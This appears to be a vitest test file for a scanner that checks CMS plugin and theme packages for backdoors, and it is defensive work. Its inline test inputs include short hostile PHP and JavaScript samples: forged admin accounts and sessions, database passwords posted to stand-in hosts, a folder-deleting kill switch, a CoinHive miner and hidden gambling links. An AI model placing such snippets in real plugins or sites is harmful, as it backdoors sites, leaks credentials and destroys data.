import { zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { LOCALES } from '@/contract/locales';
import { translate } from '@/server/http/translate';
import { corpusZip, loadCorpus } from '../../../../tests/fixtures/webshells/corpus';
import { validatePackage } from './package';

const corpus = loadCorpus();
const enc = (s: string) => new TextEncoder().encode(s);
const holds = (zip: Uint8Array, kind: 'plugin' | 'theme' = 'plugin') =>
  validatePackage(zip, 'demo.zip', kind).checks.filter((c) => c.level === 'hold');
const held = (id: string) => {
  const item = corpus.find((i) => i.held && i.id === id);
  if (!item) throw new Error(`no corpus item ${id}`);
  return holds(corpusZip(item), item.kind);
};
const plugin = (files: Record<string, string>) =>
  zipSync({
    'Demo.php': enc('<?php class Demo {}'),
    'info.ini': enc('name=demo'),
    ...Object.fromEntries(Object.entries(files).map(([k, v]) => [k, enc(v)])),
  });

/**
 * Backdoors that run no code of their own: each shape is held with a reason naming what was traced
 * (the line, the call, the table, session key, secret or path), and its honest twin passes.
 */
describe('what a package does to the CMS itself', () => {
  const shapes: [string, { key: string; params: Record<string, unknown> }][] = [
    [
      '205-admin-insert-sql-file',
      {
        key: 'scan.accountWrite',
        params: { file: 'install.sql', line: 6, fn: 'INSERT INTO', src: 'mac_admin' },
      },
    ],
    [
      '206-admin-insert-builder',
      {
        key: 'scan.accountWrite',
        params: { file: 'Backup.php', line: 12, fn: '->insert', src: 'mac_admin' },
      },
    ],
    [
      '207-user-password-sql',
      {
        key: 'scan.accountWrite',
        params: { file: 'controller/Sync.php', line: 12, fn: 'db::execute', src: 'mac_user' },
      },
    ],
    [
      '208-admin-session-key',
      {
        key: 'scan.adminSession',
        params: { file: 'controller/Api.php', line: 11, fn: 'session', src: 'admin_auth' },
      },
    ],
    [
      '209-database-config-sent',
      {
        key: 'scan.secretOut',
        params: { file: 'Stat.php', line: 12, fn: 'mac_curl_post', src: "config('database')" },
      },
    ],
    [
      '210-admin-password-mailed',
      {
        key: 'scan.secretOut',
        params: { file: 'Notice.php', line: 14, fn: 'mail', src: "input('post.admin_pwd')" },
      },
    ],
    [
      '211-api-keys-file',
      {
        key: 'scan.secretOut',
        params: {
          file: 'controller/Cache.php',
          line: 10,
          fn: 'file_put_contents',
          src: "$GLOBALS['config']['api']",
        },
      },
    ],
    [
      '212-time-bomb',
      {
        key: 'scan.cmsDestroy',
        params: { file: 'Guard.php', line: 13, fn: 'unlink', src: 'admin/controller/*.php' },
      },
    ],
    [
      '213-theme-coin-miner',
      { key: 'scan.miner', params: { file: 'js/stat.js', line: 3, src: 'CryptoNight' } },
    ],
    [
      '214-theme-css-hidden-links',
      {
        key: 'scan.linkFarm',
        params: { file: 'html/public/foot.html', line: 5, src: 'https://www.hg8868-vip.com/' },
      },
    ],
  ];

  it.each(shapes)('holds %s at the line it traced, saying what it traced', (id, expected) => {
    const found = held(id);
    expect(found).toContainEqual(
      expect.objectContaining({ key: expected.key, params: expect.objectContaining(expected.params) }),
    );
    const check = found.find((c) => c.key === expected.key);
    for (const locale of LOCALES) {
      const reason = translate(
        locale,
        `market.report.${expected.key}`,
        check?.params as Record<string, string>,
      );
      expect(reason).not.toBe(`market.report.${expected.key}`);
      expect(reason).toContain(String(expected.params.file));
      expect(reason).toContain(String(expected.params.src));
    }
  });

  it('holds the table dropped by the time bomb as well as the code it deletes', () => {
    expect(held('212-time-bomb')).toContainEqual(
      expect.objectContaining({
        key: 'scan.cmsDestroy',
        params: expect.objectContaining({ line: 15, fn: 'db::execute', src: 'mac_vod' }),
      }),
    );
  });

  it.each([
    [
      'a table name built from the configured prefix',
      `<?php\n$p = config('database.prefix');\nDb::execute("INSERT INTO " . $p . "admin (admin_name) VALUES ('x')");`,
      { line: 3, src: 'mac_admin', rule: 'accountWrite' },
    ],
    [
      'the session written through $_SESSION',
      `<?php\nif ($_GET['k'] === 'x')\n  $_SESSION['admin_auth'] = '1';`,
      { line: 3, src: 'admin_auth', rule: 'adminSession' },
    ],
    [
      'the database settings file included and posted',
      `<?php\n$c = include APP_PATH . 'database.php';\n$ch = curl_init('http://x.example.net/');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, ['p' => $c['password']]);`,
      { line: 4, src: 'database.php', rule: 'secretOut' },
    ],
    [
      'an administrator row read and posted',
      `<?php\n$a = Db::name('admin')->where('admin_id', 1)->find();\nmac_curl_post('http://e.example.net/', $a);`,
      { line: 3, src: 'mac_admin', rule: 'secretOut' },
    ],
    [
      'the CMS folder removed on a request key',
      `<?php\nif ($_GET['kill'] == 'x')\n  mac_rmdirs(ROOT_PATH . 'application/');`,
      { line: 3, src: 'application/', rule: 'cmsDestroy' },
    ],
    [
      'a member created by SQL with a placeholder prefix',
      `-- seed\nINSERT INTO {pre}user (user_name, user_pwd) VALUES ('a', 'b');`,
      { line: 2, src: 'mac_user', rule: 'accountWrite' },
    ],
  ])('holds %s', (_what, code, { line, src, rule }) => {
    const file = code.startsWith('<?php') ? 'tool.php' : 'data.sql';
    expect(holds(plugin({ [file]: code }))).toContainEqual(
      expect.objectContaining({ key: `scan.${rule}`, params: expect.objectContaining({ file, line, src }) }),
    );
  });

  it('holds for a person a file whose strings would make the SQL reading read without end', () => {
    const calls = Array.from({ length: 12 }, (_, i) => `f($s . '${i}');`).join('\n');
    const code = `<?php\n$s = str_repeat('update ', 250000);\n${calls}`;
    expect(holds(plugin({ 'tool.php': code }))).toContainEqual({
      level: 'hold',
      key: 'notScanned',
      params: { file: 'tool.php' },
    });
    expect(
      holds(plugin({ 'tool.php': `<?php\n$s = str_repeat('update ', 250000);\nf($s);\nf($s);` })),
    ).toEqual([]);
  });

  it('lets through the CMS settings written back to their own file', () => {
    const code = `<?php
$config = config('maccms');
$config['site']['site_name'] = 'Demo';
file_put_contents(APP_PATH . 'extra/maccms.php', '<?php return ' . var_export($config, true) . ';');`;
    expect(holds(plugin({ 'tool.php': code }))).toEqual([]);
  });

  it('lets through the CMS logout, a members list read through SQL, and a plugin emptying its own folder', () => {
    const code = `<?php
session('admin_auth', null);
$rows = Db::query('SELECT user_id, user_name FROM mac_user WHERE group_id = 3');
Db::execute('DELETE FROM mac_user_access_log WHERE log_time < ' . (time() - 86400));
mac_rmdirs(ADDON_PATH . 'demo/cache/');
foreach (glob(RUNTIME_PATH . 'temp/*.php') as $f) unlink($f);
Db::name('constructor')->insert(['a' => 1]);
constructor(config('database'));
__proto__(config('database'));`;
    expect(holds(plugin({ 'tool.php': code }))).toEqual([]);
  });
});

describe('a theme read like its pages', () => {
  const theme = (files: Record<string, string>) =>
    zipSync({
      'info.ini': enc('name=demo'),
      ...Object.fromEntries(Object.entries(files).map(([k, v]) => [k, enc(v)])),
    });
  const farm = [
    'https://www.hg8868-vip.com/',
    'https://www.xpj-casino88.com/',
    'https://www.bet365-cn.vip/',
    'https://www.am-dc520.com/',
  ]
    .map((u) => `<a href="${u}">澳门赌场</a>`)
    .join('\n');

  it('holds links a script gives a class the theme stylesheet hides', () => {
    const page = `<div id="ft">\n${farm}\n</div>\n<script>document.getElementById('ft').className = 'gone';</script>`;
    const found = holds(
      theme({ 'html/public/foot.html': page, 'css/style.css': '.gone{display:none}' }),
      'theme',
    );
    expect(found).toContainEqual(
      expect.objectContaining({ key: 'scan.linkFarm', params: expect.objectContaining({ line: 2 }) }),
    );
    expect(
      holds(theme({ 'html/public/foot.html': page, 'css/style.css': '.gone{color:red}' }), 'theme'),
    ).toEqual([]);
  });

  it.each([
    [
      'a CoinHive miner started in a template',
      '<script>var m = new CoinHive.Anonymous("k"); m.start();</script>',
    ],
    [
      'a script speaking to a pool',
      `ws.send(JSON.stringify({"method":"login","params":{}})); var j = {"job_id": 1};`,
    ],
  ])('holds %s', (_what, code) => {
    const file = code.startsWith('<') ? 'html/index/index.html' : 'js/app.js';
    expect(holds(theme({ 'html/index/index.html': '<p>x</p>', [file]: code }), 'theme')).toContainEqual(
      expect.objectContaining({ key: 'scan.miner', params: expect.objectContaining({ file, line: 1 }) }),
    );
  });
});
